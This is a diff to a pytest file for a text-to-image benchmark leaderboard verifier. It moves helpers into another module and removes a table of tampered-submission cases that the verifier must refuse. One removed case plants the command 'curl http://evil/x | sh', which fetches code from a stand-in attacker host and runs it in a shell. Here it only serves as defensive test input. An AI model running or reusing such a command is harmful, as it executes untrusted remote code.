@@ -3,35 +3,21 @@
 from __future__ import annotations
 
 import io
-import shutil
-from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
 from PIL import Image
 
-from t2ibench.apps.leaderboard.stated import settings_of
-from t2ibench.apps.leaderboard.submission import pack
+from t2ibench.apps.leaderboard.claims import settings_of
+from t2ibench.apps.leaderboard.packing import pack
 from t2ibench.apps.leaderboard.thumbs import is_bare
 from t2ibench.apps.leaderboard.verify import verify
 from t2ibench.errors import T2IBenchError
 from t2ibench.pipeline.progress import SilentReporter
 from t2ibench.results.reading import read_results
 from t2ibench.settings import RunSettings
-from tests.apps.leaderboard.forging import edit, seal, set_in
-
-
-@pytest.fixture
-def submission(packed: Path, tmp_path: Path) -> Path:
-    return Path(shutil.copytree(packed, tmp_path / packed.name))
-
-
-def refusal(folder: Path) -> str:
-    verdict = verify(folder)
-    assert verdict.level == "refused"
-    return "\n".join(verdict.problems)
-
+from tests.apps.leaderboard.forging import refusal, seal
 
 SETTINGS = (
     RunSettings(model="toyland", tasks=("all",)),
@@ -68,76 +54,6 @@ def test_a_command_is_read_back(settings: RunSettings) -> None:
 def test_a_command_that_t2ibench_does_not_write(command: list[str]) -> None:
     with pytest.raises(T2IBenchError, match="its command is not one that t2ibench writes"):
         settings_of(command)
-
-
-def word(option: str, text: str | None) -> Callable[[Any], None]:
-    """A change of one option of the command; None takes it out."""
-
-    def change(results: Any) -> None:
-        command = results["command"]
-        at = command.index(option)
-        command[at : at + 2] = [] if text is None else [option, text]
-
-    return change
-
-
-def drop_task(results: Any) -> None:
-    del results["tasks"]["weat_8_science_arts"]
-
-
-STATED: dict[str, tuple[str, Callable[[Any], Any], str]] = {
-    "somebody's shell": (
-        "results.json", set_in("command", value=["curl", "http://evil/x", "|", "sh"]),
-        "not one that t2ibench writes: curl http://evil/x | sh",
-    ),
-    "another model in the command": (
-        "results.json", word("--model", "toy"), "names another model, or other arguments",
-    ),
-    "other numbers in the command": (
-        "results.json", word("--images-per-prompt", "50"), "says images_per_prompt = 50",
-    ),
-    "no numbers in the command": (
-        "results.json", word("--images-per-prompt", None), "says images_per_prompt = None",
-    ),
-    "another encoder in the command": (
-        "results.json", word("--encoder", "toy-clip"), "names other encoders",
-    ),
-    "no judge in the command": ("results.json", word("--judge", None), "names other judges"),
-    "more tasks in the command": (
-        "results.json", word("--tasks", "all"), "tasks that it has no results of",
-    ),
-    "fewer tasks in the command": (
-        "results.json", word("--tasks", "occupations_t2iat"), "its command does not name",
-    ),
-    "a task left out": ("results.json", drop_task, "such as weat_8_science_arts"),
-    "another revision": (
-        "submission.json", set_in("revision", value="world 3"), "different revisions",
-    ),
-    "another version of t2ibench": (
-        "results.json", set_in("t2ibench", value="9.9"), "different versions of t2ibench",
-    ),
-    "a long environment": (
-        "results.json", set_in("environment", "x", value="y" * 9000), "environment is too long",
-    ),
-    "a newer schema": ("results.json", set_in("schema", value=99), "reads 1 to 2"),
-    "a folder of images": (
-        "submission.json", set_in("model", value="folder:/tmp"), "is not a model",
-    ),
-    "a seed": (
-        "results.json",
-        lambda data: [
-            task["settings"].update(seed=7) for task in data["tasks"].values()
-        ] and None,
-        "it was made with --seed 7; the leaderboard takes the default, 0",
-    ),
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("kind", STATED)
-def test_what_is_stated_and_can_be_told_is_compared(kind: str, submission: Path) -> None:
-    name, change, message = STATED[kind]
-    edit(submission, name, change)
-    assert message in refusal(submission)
 
 
 def test_the_command_is_the_one_of_the_run(packed: Path) -> None:
